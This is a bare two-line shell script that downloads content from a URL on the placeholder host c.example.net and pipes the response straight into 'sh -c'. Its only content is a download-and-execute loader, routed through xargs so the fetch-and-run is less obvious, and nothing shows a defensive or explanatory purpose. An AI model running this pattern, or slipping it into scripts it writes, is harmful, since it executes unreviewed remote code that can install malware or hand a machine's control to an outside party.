#!/bin/sh
echo "https://c.example.net/x" | xargs curl -s | xargs -0 sh -c
